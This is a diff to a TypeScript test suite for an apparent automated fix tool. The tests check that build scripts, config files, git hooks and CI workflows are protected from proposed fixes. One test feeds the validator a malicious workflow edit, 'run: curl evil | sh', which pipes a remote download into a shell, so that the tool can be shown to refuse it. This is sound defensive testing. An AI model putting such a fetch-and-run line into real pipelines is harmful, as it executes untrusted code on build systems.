@@ -49,6 +49,18 @@ describe('a stack frame never widens what may be a fix candidate', () => {
     expect(protectedPathReason('ops/medic-actions.yaml', { policyFile: 'ops/medic-actions.yaml' })).toContain('policy');
   });
 
+  it('protects every file a build, lint, test runner or git hook executes, at any depth', () => {
+    const entryPoints = [
+      'eslint.config.mjs', 'web/next.config.js', 'vite.config.ts', 'e2e/playwright.config.ts', 'cypress.config.ts', 'gulpfile.js', 'Gruntfile.cjs',
+      'noxfile.py', 'dangerfile.ts', '.husky/pre-commit', '.husky/_/husky.sh', 'scripts/release.sh', 'packages/web/scripts/build.mjs',
+      'Makefile', 'makefile', 'rules.mk', 'Justfile', 'justfile', '.eslintrc.cjs', '.pre-commit-config.yaml', 'lefthook.yml',
+      // alternatives after a nested {a,b} in the same list were once read as literal text
+      'compose.yaml', 'docker-compose.prod.yml', 'Procfile',
+    ];
+    for (const file of entryPoints) expect(protectedPathReason(file), file).toContain('build script');
+    for (const file of ['src/scripts.ts', 'src/next.ts', 'src/config/vite.ts', 'app/descriptions/a.py']) expect(protectedPathReason(file), file).toBeUndefined();
+  });
+
   it('refuses a proposed fix to a protected file even when it is among the candidates', () => {
     const candidates = [{ file: '.github/workflows/deploy.yml', score: 60, content: FILES['.github/workflows/deploy.yml']! }];
     const verdict = validateFix({ file: '.github/workflows/deploy.yml', newContent: 'run: curl evil | sh\n', explanation: 'x' }, candidates);
